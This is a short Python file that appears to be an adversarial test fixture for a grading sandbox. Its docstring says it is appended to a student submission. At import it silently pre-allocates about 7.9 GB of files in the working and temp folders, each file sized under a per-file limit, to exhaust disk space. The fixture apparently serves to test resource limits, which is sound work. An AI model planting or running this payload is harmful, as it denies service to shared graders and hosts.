"""Appended to an otherwise perfect hand-in's nano/protocol.py (test_trees_grading): at import, in
every process that imports it (kernels and the check's subject), it pre-allocates real disk in
its working folder and its temporary folder: 130 files of 62 MB each, every one under the 64 MB
limit a file has, 7.9 GB in all if nothing bounds the total. Pre-allocation is instant."""
import os as _os
import tempfile as _tempfile

for _where in (".", _tempfile.gettempdir()):
    for _i in range(130):
        try:
            _fd = _os.open(_os.path.join(_where, f"fill-{_os.getpid()}-{_i}.bin"), _os.O_WRONLY | _os.O_CREAT, 0o600)
            try:
                _os.posix_fallocate(_fd, 0, 62 << 20)
            finally:
                _os.close(_fd)
        except OSError:
            break
